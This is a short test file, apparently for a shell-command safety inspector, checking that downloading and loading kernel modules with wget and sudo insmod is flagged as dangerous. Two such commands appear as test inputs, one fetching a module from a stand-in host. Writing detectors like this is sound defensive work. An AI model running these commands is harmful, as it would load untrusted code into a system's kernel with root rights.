/**
 * Attack: a kernel module is downloaded and loaded.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('insmod downloaded', () => {
  it.each([
    ['wget https://x.example/fix.ko && sudo insmod fix.ko', 'kernel-module', 'high'],
    ['sudo insmod /tmp/mitigate.ko', 'kernel-module', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
